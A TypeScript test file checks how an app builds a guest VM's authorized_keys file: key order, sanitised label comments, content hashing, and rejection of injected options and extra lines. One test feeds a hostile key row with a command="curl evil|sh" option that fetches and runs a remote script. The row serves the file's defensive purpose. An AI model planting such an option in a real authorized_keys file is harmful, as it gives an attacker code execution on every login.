// What goes into a guest's authorized_keys: checked line by line, and read
// back by the real ssh-keygen (which parses authorized_keys as sshd does).
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { authorizedKeysContent, contentHash } from "~/server/access/guest-access";

const dir = mkdtempSync(path.join(tmpdir(), "twarga-ak-"));
function keyPair(type: string, name: string): string {
  const file = path.join(dir, name);
  execFileSync("ssh-keygen", ["-q", "-t", type, "-N", "", "-C", "comment dropped", "-f", file]);
  return readFileSync(`${file}.pub`, "utf8").trim();
}
const own = keyPair("ed25519", "own");
const user1 = keyPair("ecdsa", "u1").split(" ").slice(0, 2).join(" ");
const user2 = keyPair("rsa", "u2").split(" ").slice(0, 2).join(" ");

describe("authorizedKeysContent", () => {
  it("holds the VM's own key, then the owner's keys with their labels as comments", () => {
    const text = authorizedKeysContent("vm1", own, [
      { label: "laptop", publicKey: user1 },
      { label: "line\nbreak\r\u2028and\ttabs  é", publicKey: user2 },
    ]);
    const lines = text.split("\n");
    expect(lines[0]).toMatch(/^# /);
    expect(lines[1]).toMatch(/^# /);
    expect(lines[2]).toBe(`${own.split(" ").slice(0, 2).join(" ")} twarga-vm-vm1 (the app's own key for this VM)`);
    expect(lines[3]).toBe(`${user1} laptop`);
    expect(lines[4]).toBe(`${user2} line break and tabs é`);
    expect(lines[5]).toBe("");
    expect(lines).toHaveLength(6);

    // sshd's own parser (through ssh-keygen -l) reads three keys and the comments as written.
    const file = path.join(dir, "authorized_keys");
    writeFileSync(file, text);
    const listed = execFileSync("ssh-keygen", ["-lf", file], { encoding: "utf8" }).trim().split("\n");
    expect(listed).toHaveLength(3);
    expect(listed[1]).toMatch(/ laptop \(ECDSA\)$/);
    expect(listed[2]).toMatch(/ line break and tabs é \(RSA\)$/);
  });

  it("never lets a stored row add options or lines", () => {
    const text = authorizedKeysContent("vm1", own, [
      { label: "x", publicKey: `command="curl evil|sh" ${user1}` },
      { label: "y", publicKey: `${user1}\n${user2}` },
      { label: "z", publicKey: "TWARGA_KEYS_END" },
    ]);
    expect(text.split("\n").filter((l) => l && !l.startsWith("#"))).toHaveLength(1);
  });

  it("refuses a malformed own key, and changes its hash with any change of keys", () => {
    expect(() => authorizedKeysContent("vm1", "not a key", [])).toThrow(/own public key is malformed/);
    const a = contentHash(authorizedKeysContent("vm1", own, [{ label: "a", publicKey: user1 }]));
    expect(contentHash(authorizedKeysContent("vm1", own, [{ label: "a", publicKey: user1 }]))).toBe(a);
    expect(contentHash(authorizedKeysContent("vm1", own, []))).not.toBe(a);
    expect(contentHash(authorizedKeysContent("vm1", own, [{ label: "b", publicKey: user1 }]))).not.toBe(a);
  });
});
